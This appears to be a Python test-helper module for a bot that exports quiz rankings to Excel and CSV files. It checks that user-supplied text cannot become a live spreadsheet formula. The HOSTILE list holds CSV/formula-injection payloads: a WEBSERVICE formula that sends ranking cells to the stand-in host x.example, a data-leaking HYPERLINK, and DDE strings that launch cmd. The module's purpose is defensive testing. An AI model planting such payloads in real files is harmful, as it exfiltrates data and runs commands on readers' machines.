"""Texts a spreadsheet would run as formulas, and reading every cell of a file the bot writes."""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path

from openpyxl import load_workbook

# What an attacker types where a participant types text, or puts in a question bank: each
# starts with a character Excel, LibreOffice or Google Sheets starts a formula with.
WEBSERVICE = '=WEBSERVICE("http://x.example/c?"&TEXTJOIN(",",TRUE,\'Xếp hạng\'!C2:C999))'
HOSTILE = [
    WEBSERVICE,
    '=HYPERLINK("http://x.example/?"&C2,"Bấm để xem giải")',
    "+SUM(1,2)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1dSUM(1,2)",  # full-width "=", as an East Asian input method types it
    "'=1+1",  # already quoted: must come back exactly, quote included
]
# Starts a CSV cell that Excel evaluates, but cannot start a stored text (edges are stripped).
CSV_ONLY = ["\t=1+1", "\r=1+1"]
_FORMULA_START = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_FORMULA_XML = re.compile(rb"<(?:\w+:)?f[ >/]|t=\"str\"")


@dataclass(frozen=True)
class Cell:
    sheet: str
    ref: str
    value: object
    data_type: str
    quote_prefix: bool


def cells(xlsx: bytes) -> list[Cell]:
    """Every cell of every sheet, with the type openpyxl reads and Excel's quote prefix."""
    wb = load_workbook(io.BytesIO(xlsx))
    return [
        Cell(ws.title, c.coordinate, c.value, c.data_type, bool(c.quotePrefix))
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.value is not None
    ]


def formula_cells(xlsx: bytes) -> list[str]:
    """Where the file holds a formula: cells openpyxl reads as one, and <f> in the sheets' XML."""
    found = [f"{c.sheet}!{c.ref}: {c.value!r}" for c in cells(xlsx) if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and _FORMULA_XML.search(z.read(name)):
                found.append(f"{name}: formula XML")
    return found


def unquoted_formula_texts(xlsx: bytes) -> list[str]:
    """Text cells that start like a formula without Excel's quote prefix (which keeps such a
    cell text when someone edits it)."""
    return [
        f"{c.sheet}!{c.ref}: {c.value!r}"
        for c in cells(xlsx)
        if isinstance(c.value, str) and c.value.startswith(_FORMULA_START) and not c.quote_prefix
    ]


def texts(xlsx: bytes, sheet: str | None = None) -> set[str]:
    """Every text value of the file (or of one sheet)."""
    return {
        c.value
        for c in cells(xlsx)
        if isinstance(c.value, str) and (sheet is None or c.sheet == sheet)
    }


def detail_csv(path: Path) -> list[dict[str, str]]:
    """The per-answer detail file as Excel shows it after unzipping: UTF-8 with its byte
    order mark, one dict per line by header; cells exactly as written (a "'" kept)."""
    raw = gzip.decompress(path.read_bytes())
    assert raw.startswith(codecs.BOM_UTF8)
    text = raw[len(codecs.BOM_UTF8) :].decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))
